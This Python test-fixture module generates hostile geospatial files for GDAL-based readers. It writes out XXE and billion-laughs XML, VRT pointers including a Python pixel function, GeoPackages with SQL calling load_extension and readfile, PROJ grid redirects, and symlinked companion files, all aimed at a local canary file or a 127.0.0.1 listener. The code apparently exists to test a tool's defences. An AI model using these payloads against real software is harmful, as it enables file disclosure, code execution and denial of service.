"""Files that ask whoever opens them to read other files, to go online, or to run something."""

from __future__ import annotations

import sqlite3
import zipfile
from pathlib import Path

import geopandas as gpd
from made_files import WGS84, boxes, names_dbf, write_shp

# Words that make a driver of GDAL follow them, whatever the file is called. {canary} is a file
# outside of the plan, {url} a server that listens.
POINTERS = {
    "vrt-file": '<OGRVRTDataSource><OGRVRTLayer name="c"><SrcDataSource>{canary}</SrcDataSource>'
    "</OGRVRTLayer></OGRVRTDataSource>",
    "vrt-csv": '<OGRVRTDataSource><OGRVRTLayer name="c"><SrcDataSource>CSV:{canary}</SrcDataSource>'
    "</OGRVRTLayer></OGRVRTDataSource>",
    "vrt-url": '<OGRVRTDataSource><OGRVRTLayer name="c"><SrcDataSource>/vsicurl/{url}/a.shp'
    "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
    "vrt-sql": '<OGRVRTDataSource><OGRVRTLayer name="c"><SrcDataSource>{canary}</SrcDataSource>'
    "<SrcSQL dialect=\"sqlite\">select ogr_geocode('x'), load_extension('x')</SrcSQL>"
    "</OGRVRTLayer></OGRVRTDataSource>",
    "vrt-raster": '<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand dataType="Byte" '
    'band="1"><SimpleSource><SourceFilename>{canary}</SourceFilename></SimpleSource>'
    "</VRTRasterBand></VRTDataset>",
    "vrt-python": '<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand dataType="Byte" '
    'band="1" subClass="VRTDerivedRasterBand"><PixelFunctionLanguage>Python'
    "</PixelFunctionLanguage><PixelFunctionCode>open('{canary}.ran', 'w')</PixelFunctionCode>"
    "</VRTRasterBand></VRTDataset>",
    "wfs": "<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>",
    "wms": '<GDAL_WMS><Service name="WMS"><ServerUrl>{url}/wms</ServerUrl></Service></GDAL_WMS>',
    "wmts": "<GDAL_WMTS><GetCapabilitiesUrl>{url}/wmts</GetCapabilitiesUrl></GDAL_WMTS>",
    "wcs": "<WCS_GDAL><ServiceURL>{url}/wcs</ServiceURL><CoverageName>x</CoverageName></WCS_GDAL>",
    "algorithm": '{{"type": "gdal_streamed_alg", "command_line": '
    '"gdal vector pipeline ! read {canary} ! write /dev/null"}}',
    "algorithm-url": '{{"type": "gdal_streamed_alg", "command_line": '
    '"gdal vector pipeline ! read /vsicurl/{url}/a.geojson"}}',
    "oapif": '{{"links": [{{"rel": "data", "href": "{url}/collections", "type": '
    '"application/json"}}], "conformsTo": ["http://www.opengis.net/spec/ogcapi-features-1"]}}',
    "esri": '{{"geometryType": "esriGeometryPolygon", "exceededTransferLimit": true, "fields": [],'
    ' "features": [], "properties": {{"url": "{url}"}}}}',
    "geojson-link": '{{"type": "FeatureCollection", "links": [{{"rel": "next", "href": "{url}"}}],'
    ' "crs": {{"type": "link", "properties": {{"href": "{url}/crs", "type": "ogcwkt"}}}},'
    ' "features": [{{"type": "Feature", "properties": {{"DYBH": "A"}}, "geometry": null}}]}}',
    "stac": '{{"type": "FeatureCollection", "stac_version": "1.0.0", "features": [{{"type": '
    '"Feature", "stac_version": "1.0.0", "properties": {{}}, "geometry": null, "assets": '
    '{{"a": {{"href": "{url}/a.tif"}}}}}}]}}',
    "xxe": '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file://{canary}">]>'
    '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&x;</name>'
    "<Point><coordinates>1,2</coordinates></Point></Placemark></Document></kml>",
    "xxe-url": '<?xml version="1.0"?><!DOCTYPE kml SYSTEM "{url}/a.dtd">'
    '<kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>',
    "laughs": '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + ']><kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&j;</name>'
    "<Point><coordinates>1,2</coordinates></Point></Placemark></Document></kml>",
    "network-link": '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link>'
    "<href>{url}/more.kml</href></Link></NetworkLink></Document></kml>",
    "gml-link": '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xsi="http://www.w3.org/2001/XMLSchema-'
    'instance" xsi:schemaLocation="a {url}/a.xsd"><gml:featureMember xlink:href="{url}/b.gml"/>'
    "</gml:FeatureCollection>",
    "postgres": "PG:host=127.0.0.1 port={port} dbname=x",
    "vsi": "/vsicurl/{url}/a.shp",
    "tab": '!table\n!version 300\n!charset Neutral\n\nDefinition Table\n  File "{canary}"\n'
    '  Type NATIVE Charset "Neutral"\n  Fields 1\n    a Char (10) ;\n',
    "tab-view": '!table\n!version 100\nOpen Table "{canary}" Hide\nCreate View v As\n'
    "Select * From a",
}
EXTENSIONS = (
    ".shp", ".gpkg", ".geojson", ".json", ".kml", ".kmz", ".dxf", ".tab", ".mif", ".fgb", ".csv",
    ".dbf", ".xlsx", ".parquet", ".vrt", ".gml", ".xml", ".zip", ".gdb", ".tif", ".sqlite",
)  # fmt: skip


# These under every extension, the others where a driver might look.
_EVERYWHERE = {"vrt-file", "wfs", "algorithm", "xxe", "geojson-link", "tab"}
_ELSEWHERE = (".json", ".gpkg", ".shp", ".kml", ".xml")


def write_pointers(folder: Path, canary: Path, port: int) -> int:
    """Write every pointer under many extensions, loose and in an archive; return how many."""
    words = {"canary": canary, "url": f"http://127.0.0.1:{port}", "port": port}
    loose, packed = folder / "loose", folder / "packed.zip"
    loose.mkdir(parents=True)
    count = 0
    with zipfile.ZipFile(packed, "w") as archive:
        for name, text in POINTERS.items():
            for extension in EXTENSIONS if name in _EVERYWHERE else _ELSEWHERE:
                (loose / f"{name}{extension}").write_text(text.format(**words), encoding="utf-8")
                if extension != ".zip":
                    archive.write(loose / f"{name}{extension}", f"{name}{extension}")
                count += 1
    return count


def geopackage(path: Path) -> Path:
    frame = gpd.GeoDataFrame({"DYBH": ["A", "B"]}, geometry=boxes(2), crs=4490)
    frame.to_file(path, layer="更新单元", driver="GPKG")
    return path


# SQL that a database holds: it runs when a layer of it is read.
SQL = {
    "view-geocode": "create view v as select ogr_geocode('{url}') as a, fid, geom from 更新单元",
    "view-load": "create view v as select ogr_datasource_load_layers('{canary}') as a"
    " from 更新单元",
    "view-extension": "create view v as select load_extension('{canary}') as a from 更新单元",
    "view-readfile": "create view v as select readfile('{canary}') as a from 更新单元",
    "view-pixel": "create view v as select gdal_get_pixel_value('{canary}',1,'pixel',0,0) as a from"
    " 更新单元",
    "trigger": "create trigger t after update on 更新单元 begin select ogr_geocode('{url}'); end",
}
VIRTUAL = {
    "virtual-ogr": "create virtual table v using VirtualOGR('{canary}')",
    "virtual-shape": "create virtual table v using VirtualShape('{canary}', 'UTF-8', 4326)",
    "virtual-text": "create virtual table v using VirtualText('{canary}')",
    "virtual-csv": "create virtual table v using csv(filename='{canary}')",
}


def write_databases(folder: Path, canary: Path, port: int) -> None:
    """Write GeoPackages that hold hostile SQL, each as a layer `v` of its own."""
    words = {"canary": canary, "url": f"http://127.0.0.1:{port}"}
    folder.mkdir(parents=True)
    for name, sql in {**SQL, **VIRTUAL}.items():
        path = geopackage(folder / f"{name}.gpkg")
        with sqlite3.connect(path) as file:
            text = sql.format(**words)
            if name in VIRTUAL:  # no such module here: written as a tool that has it would
                file.execute("pragma writable_schema = on")
                file.execute("insert into sqlite_master values ('table', 'v', 'v', 0, ?)", (text,))
            else:
                file.execute(text)
            file.execute(
                "insert into gpkg_contents (table_name, data_type, identifier, srs_id)"
                " values ('v', 'attributes', 'v', 0)"
            )
        file.close()


def write_definitions(folder: Path, canary: Path) -> None:
    """Write shapefiles whose CRS names a grid that lies outside of the plan."""
    folder.mkdir(parents=True)
    grid = f'EXTENSION["PROJ4","+proj=longlat +ellps=krass +nadgrids={canary} +no_defs"]'
    old = (
        'GEOGCS["B",DATUM["B",SPHEROID["Krassowsky_1940",6378245,298.3]],'
        f'PRIMEM["Greenwich",0],UNIT["Degree",0.0174532925199433],{grid}]'
    )
    bound = (
        'BOUNDCRS[SOURCECRS[GEOGCRS["B",DATUM["B",ELLIPSOID["Krassowsky 1940",6378245,298.3]],'
        'CS[ellipsoidal,2],AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",'
        '0.0174532925199433]]],TARGETCRS[GEOGCRS["WGS 84",DATUM["World Geodetic System 1984",'
        'ELLIPSOID["WGS 84",6378137,298.257223563]],CS[ellipsoidal,2],AXIS["lat",north],'
        'AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433]]],ABRIDGEDTRANSFORMATION["g",'
        f'METHOD["NTv2",ID["EPSG",9615]],PARAMETERFILE["Latitude and longitude difference file",'
        f'"{canary}",ID["EPSG",8656]]]]'
    )
    for name, prj in {
        "nadgrids": old,
        "bound": bound,
        "proj": f"+proj=longlat +nadgrids={canary}",
        "pipeline": f"+proj=pipeline +step +proj=hgridshift +grids={canary}",
        "init": f"+init={canary}:1",
    }.items():
        write_shp(folder / f"更新单元-{name}.shp", dbf=names_dbf(["甲", "乙"]), prj=prj)


def write_links(folder: Path, canary: Path) -> None:
    """Write files whose companions are links to a file outside of the plan."""
    folder.mkdir(parents=True)
    for end in ("shp", "shx", "dbf", "prj", "cpg"):
        path = write_shp(
            folder / f"更新单元-{end}.shp", dbf=names_dbf(["甲", "乙"]), prj=WGS84, cpg="GBK"
        )
        path.with_suffix(f".{end}").unlink()
        path.with_suffix(f".{end}").symlink_to(canary)
    for side in ("-wal", "-journal", "-shm"):
        geopackage(folder / f"更新单元{side}.gpkg")
        (folder / f"更新单元{side}.gpkg{side}").symlink_to(canary)
    database = folder / "更新单元.gdb"
    gpd.GeoDataFrame({"a": ["x"]}, geometry=boxes(1), crs=4490).to_file(
        database, driver="OpenFileGDB", layer="更新单元"
    )
    for table in sorted(database.glob("*.gdbtable"))[-1:]:
        table.unlink()
        table.symlink_to(canary)
    (folder / "文件夹.gdb").symlink_to(canary.parent)
